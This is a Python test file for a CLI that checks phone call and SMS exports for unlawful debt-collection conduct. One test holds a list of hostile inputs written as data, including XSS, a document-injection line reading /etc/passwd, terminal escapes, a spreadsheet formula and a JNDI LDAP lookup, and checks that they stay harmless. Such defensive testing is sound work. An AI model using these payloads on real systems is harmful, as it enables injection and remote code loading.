"""The main command from the outside, on the bundled example and on bad input."""

from __future__ import annotations

import json
import os
import re
import socket
import subprocess
import sys
from pathlib import Path

import pytest

from shouzheng.cli.main import main
from tests.cli.exports import CASE, call, sms, write, write_case

ROOT = Path(__file__).resolve().parents[2]
EXAMPLE = ROOT / "examples" / "yunling"
FILES = sorted(str(path) for path in EXAMPLE.glob("*.xml"))


@pytest.fixture(scope="module")
def example(tmp_path_factory: pytest.TempPathFactory) -> tuple[int, dict[str, object], Path]:
    out = tmp_path_factory.mktemp("example")
    code = main(["check", *FILES, "--who", str(EXAMPLE / "case.toml"), "--out", str(out), "--as-of", "2026-11-22"])
    findings: dict[str, object] = json.loads((out / "findings.json").read_text("utf-8"))
    return code, findings, out


def _list(data: dict[str, object], key: str) -> list[dict[str, object]]:
    listed = data[key]
    assert isinstance(listed, list)
    return listed


def _findings(data: dict[str, object], rule: str) -> list[dict[str, object]]:
    return [finding for finding in _list(data, "findings") if finding["rule"] == rule]


def _articles(finding: dict[str, object]) -> str:
    return json.dumps(finding["citations"], ensure_ascii=False)


def test_the_example_has_findings_and_all_files(example: tuple[int, dict[str, object], Path]) -> None:
    code, _, out = example
    assert code == 1
    assert sorted(p.name for p in out.iterdir()) == ["dossier.pdf", "events.jsonl", "findings.json"]


@pytest.mark.parametrize("rule", ["R01", "R02", "R05", "R07", "R08", "R11", "R12", "R13", "R15", "R20", "R21", "R27"])
def test_each_of_the_first_rules_finds_its_conduct_in_the_example(
    example: tuple[int, dict[str, object], Path], rule: str
) -> None:
    assert _findings(example[1], rule), rule


def test_the_article_is_that_of_the_events_own_day(example: tuple[int, dict[str, object], Path]) -> None:
    threats = {str(f["day"])[:4]: _articles(f) for f in _findings(example[1], "R20")}
    assert "第四十二条第一项" in threats["2025"]
    assert "第五十条第一款第一项" not in threats["2025"]
    assert "第五十条第一款第一项" in threats["2026"]
    assert "第四十二条" not in threats["2026"]


def test_a_lawful_reminder_gives_no_finding(example: tuple[int, dict[str, object], Path]) -> None:
    _, data, out = example
    found = {contact["id"] for contact in _list(data, "contacts")}
    lines = [json.loads(line) for line in (out / "events.jsonl").read_text("utf-8").splitlines()[1:]]
    reminders = [line for line in lines if (line["text"] or "").startswith("【云岭示例消金】")]
    assert len(reminders) == 5
    assert [line["text"] for line in reminders if line["id"] in found] == []


def test_night_rules_of_the_association_do_not_reach_back(example: tuple[int, dict[str, object], Path]) -> None:
    assert {str(f["day"]) for f in _findings(example[1], "R01")} == {"2026-02-02"}
    assert min(str(f["day"]) for f in _findings(example[1], "R02")) == "2025-12-30"


def test_no_private_text_leaves_the_private_file(example: tuple[int, dict[str, object], Path]) -> None:
    _, _, out = example
    everything = (out / "findings.json").read_text("utf-8")
    assert "饺子" in (out / "events.jsonl").read_text("utf-8")
    for private in ("饺子", "烟花", "取件码", "妈妈", "18000000001"):
        assert private not in everything


def test_nothing_opens_a_network_connection(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("a network connection was tried")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    assert main(["check", *FILES, "--who", str(EXAMPLE / "case.toml"), "--out", str(tmp_path)]) == 1


def test_the_events_file_says_that_it_is_private_and_only_the_owner_may_read_it(
    example: tuple[int, dict[str, object], Path],
) -> None:
    path = example[2] / "events.jsonl"
    first = json.loads(path.read_text("utf-8").splitlines()[0])
    assert first["private"] is True
    if os.name == "posix":
        assert path.stat().st_mode & 0o077 == 0


def test_threats_are_folded_in_the_terminal(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    main(["check", *FILES, "--who", str(EXAMPLE / "case.toml"), "--out", str(tmp_path), "--no-pdf"])
    shown = capsys.readouterr().out
    assert "打断你的腿" not in shown
    assert "110" in shown
    assert "\x1b" not in shown


@pytest.mark.parametrize("lang", ["zh-Hans", "zh-Hant", "en"])
def test_every_language_runs(capsys: pytest.CaptureFixture[str], tmp_path: Path, lang: str) -> None:
    arguments = ["check", *FILES, "--who", str(EXAMPLE / "case.toml"), "--out", str(tmp_path), "--no-pdf"]
    assert main([*arguments, "--lang", lang]) == 1
    shown = capsys.readouterr().out
    assert ("聯繫" in shown or "聯絡" in shown or "紀錄" in shown or "記錄" in shown) is (lang == "zh-Hant")


def test_json_goes_to_stdout_and_talk_to_stderr(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    main(["check", *FILES, "--who", str(EXAMPLE / "case.toml"), "--out", str(tmp_path), "--no-pdf", "--json"])
    data = json.loads(capsys.readouterr().out)
    assert data == json.loads((tmp_path / "findings.json").read_text("utf-8"))


def test_without_a_statement_everything_is_cannot_tell_and_nothing_is_accused(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    assert main(["check", *FILES, "--out", str(tmp_path), "--no-pdf"]) == 0
    assert json.loads((tmp_path / "findings.json").read_text("utf-8"))["findings"] == []
    assert "case.toml" in capsys.readouterr().out


def test_a_courier_at_night_is_no_breach(tmp_path: Path) -> None:
    calls = write(tmp_path / "calls-1.xml", "calls", call("2026-03-01 22:30:00", "13000000009", 1, 20))
    out = tmp_path / "out"
    assert main(["check", str(calls), "--who", str(write_case(tmp_path)), "--out", str(out), "--no-pdf"]) == 0


def test_a_night_call_of_the_lender_is_found(tmp_path: Path) -> None:
    calls = write(tmp_path / "calls-1.xml", "calls", call("2026-03-01 22:30:00"))
    out = tmp_path / "out"
    assert main(["check", str(calls), "--who", str(write_case(tmp_path)), "--out", str(out), "--no-pdf"]) == 1


def test_a_file_of_another_person_without_consent_is_not_read(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    mine = write(tmp_path / "sms-1.xml", "smses", sms("2026-03-01 10:00:00", "您好"))
    hers = write(tmp_path / "sister-1.xml", "smses", sms("2026-03-01 10:00:00", "姐姐的秘密"))
    who = write_case(tmp_path, '[[person]]\nid = "sister"\nrole = "relative"\nfiles = ["sister-*.xml"]\n')
    out = tmp_path / "out"
    assert main(["check", str(mine), str(hers), "--who", str(who), "--out", str(out), "--no-pdf"]) == 0
    assert "姐姐的秘密" not in (out / "events.jsonl").read_text("utf-8")
    assert "SZ-5002" in capsys.readouterr().err


def _bad_files(folder: Path) -> dict[str, Path]:
    png = folder / "sms-picture.xml"
    png.write_bytes(b"\x89PNG\r\n\x1a\n" + b"\0" * 64)
    empty = folder / "sms-empty.xml"
    empty.write_bytes(b"")
    wrong = folder / "sms-wrong.xml"
    wrong.write_text("<html><body>hello</body></html>", "utf-8")
    nothing = folder / "sms-nowhere.xml"
    return {"png": png, "empty": empty, "wrong root": wrong, "directory": folder, "absent": nothing}


@pytest.mark.parametrize("what", ["png", "empty", "wrong root", "directory", "absent"])
def test_unreadable_input_exits_2_with_code_reason_and_advice(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], what: str
) -> None:
    out = tmp_path / "out"
    assert main(["check", str(_bad_files(tmp_path)[what]), "--out", str(out), "--no-pdf"]) == 2
    told = capsys.readouterr().err
    assert "SZ-1" in told
    assert "怎么办" in told
    assert not out.exists()


def test_one_bad_file_beside_a_good_one_is_a_warning(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    good = write(tmp_path / "calls-1.xml", "calls", call("2026-03-01 22:30:00"))
    bad = _bad_files(tmp_path)["png"]
    out, who = tmp_path / "out", write_case(tmp_path)
    assert main(["check", str(bad), str(good), "--who", str(who), "--out", str(out), "--no-pdf"]) == 1
    assert "PNG" in capsys.readouterr().err


def test_a_truncated_file_keeps_what_was_readable(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = write(tmp_path / "calls-1.xml", "calls", call("2026-03-01 22:30:00"), call("2026-03-02 22:30:00"))
    path.write_bytes(path.read_bytes()[:-60])
    out, who = tmp_path / "out", write_case(tmp_path)
    assert main(["check", str(path), "--who", str(who), "--out", str(out), "--no-pdf"]) == 1
    assert "SZ-1" in capsys.readouterr().err


def test_a_wrong_statement_lists_every_mistake_with_its_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    good = write(tmp_path / "calls-1.xml", "calls", call("2026-03-01 22:30:00"))
    who = tmp_path / "case.toml"
    who.write_text(CASE.replace('role = "debtor"', 'role = "borower"\ncolour = "red"'), "utf-8")
    assert main(["check", str(good), "--who", str(who), "--out", str(tmp_path / "out"), "--no-pdf"]) == 2
    told = capsys.readouterr().err
    assert told.count("SZ-2") >= 2
    assert "case.toml:11" in told
    assert "debtor" in told


HOSTILE = (
    "<script>alert(1)</script><img src=x onerror=y>",
    '#eval("1+1") $x^2$ *粗* @preview/x `raw` \\input{x} #read("/etc/passwd")',
    "\x1b]0;title\x07\x1b[31mred\x1b[0m",
    '=HYPERLINK("http://a.invalid","x") +1+1 @SUM(1)',
    "\u202e反过来\u2066隔离\u2069\u200b零宽",
    "{{ 7*7 }} {% raw %} ${jndi:ldap://a.invalid}",
    "]]> --> <!-- &amp; &lt;",
)


def test_hostile_text_appears_literally_and_harms_nothing(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    records = [sms(f"2026-03-01 22:{n:02d}:00", body + " 再不还钱打断你的腿") for n, body in enumerate(HOSTILE)]
    bodies = [re.sub("[\x07\x1b]", "\ufffd", text) for text in HOSTILE]  # no control character is legal in XML
    path = write(tmp_path / "sms-1.xml", "smses", *records, sms("2026-03-01 22:59:00", "甲" * 100_000))
    out, who = tmp_path / "out", write_case(tmp_path)
    assert main(["check", str(path), "--who", str(who), "--out", str(out)]) == 1
    shown = capsys.readouterr().out
    assert "\x1b" not in shown
    assert "\u202e" not in shown
    stored = json.loads((out / "findings.json").read_text("utf-8"))
    texts = [contact["text"] or "" for contact in stored["contacts"]]
    for body in bodies:
        assert any(body in text for text in texts), body
    assert (out / "dossier.pdf").read_bytes().startswith(b"%PDF")


def test_ctrl_c_leaves_no_half_written_file_and_exits_130(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def stop(*_: object, **__: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr("shouzheng.remedy.check.judge_case", stop)
    out = tmp_path / "out"
    assert main(["check", *FILES, "--out", str(out), "--no-pdf"]) == 130
    assert not out.exists()


def test_the_program_starts_without_heavy_imports() -> None:
    script = "import sys\nimport shouzheng.cli.main\n"
    script += "print(sorted({'rich','typst','opencc','numpy','pyarrow'} & set(sys.modules)))"
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]"
